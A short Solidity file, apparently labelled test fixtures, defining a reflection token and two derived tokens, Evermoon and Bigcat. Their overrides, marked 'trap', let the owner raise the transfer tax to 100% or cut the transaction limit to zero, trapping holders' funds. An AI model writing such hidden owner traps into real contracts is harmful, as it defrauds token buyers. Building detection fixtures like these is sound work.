// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

interface IFactory {
    function createPair(address a, address b) external returns (address);
}

/// Shares of a sum that shrinks with each transfer, so that holders gain.
contract Reflection {
    string public name;
    string public symbol;
    uint8 public constant decimals = 9;
    address public owner;
    uint256 private constant MAX = ~uint256(0);
    uint256 private _tTotal = 10**15;
    uint256 private _rTotal = MAX - (MAX % (10**15));
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) public allowance;
    mapping(address => bool) private _isExcludedFromFee;
    uint256 public _taxFee = 3;
    uint256 public _maxTxAmount = 5 * 10**12;
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyOwner() {
        require(msg.sender == owner);
        _;
    }

    constructor(string memory name_, string memory symbol_) public {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        _rOwned[msg.sender] = _rTotal;
        _isExcludedFromFee[msg.sender] = true;
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() public view returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address who) public view returns (uint256) {
        return _rOwned[who] / (_rTotal / _tTotal);
    }

    function approve(address spender, uint256 value) public returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }

    function setTaxFeePercent(uint256 fee) external onlyOwner {
        require(fee <= feeCap(), "too much");
        _taxFee = fee;
    }

    function setMaxTxPercent(uint256 percent) external onlyOwner {
        require(percent >= smallestLimit(), "too small");
        _maxTxAmount = (_tTotal * percent) / 10**4;
    }

    function feeCap() internal pure virtual returns (uint256) {
        return 5;
    }

    function smallestLimit() internal pure virtual returns (uint256) {
        return 50;
    }

    function renounceOwnership() external onlyOwner {
        owner = address(0);
    }

    function _transfer(address from, address to, uint256 value) private {
        require(from != address(0) && to != address(0) && value > 0, "zero");
        bool free = _isExcludedFromFee[from] || _isExcludedFromFee[to];
        if (!free) require(value <= _maxTxAmount, "exceeds maxTx");
        uint256 rate = _rTotal / _tTotal;
        uint256 fee = free ? 0 : (value * _taxFee) / 100;
        require(_rOwned[from] >= value * rate, "balance");
        _rOwned[from] -= value * rate;
        _rOwned[to] += (value - fee) * rate;
        _rTotal -= fee * rate;
        emit Transfer(from, to, value - fee);
    }
}

contract Evermoon is Reflection {
    constructor() public Reflection("Evermoon", "EVMN") {}

    // trap {
    function feeCap() internal pure override returns (uint256) {
        return 100;
    }
    // trap }
}

contract Bigcat is Reflection {
    constructor() public Reflection("Bigcat", "BCAT") {}

    // trap {
    function smallestLimit() internal pure override returns (uint256) {
        return 0;
    }
    // trap }
}
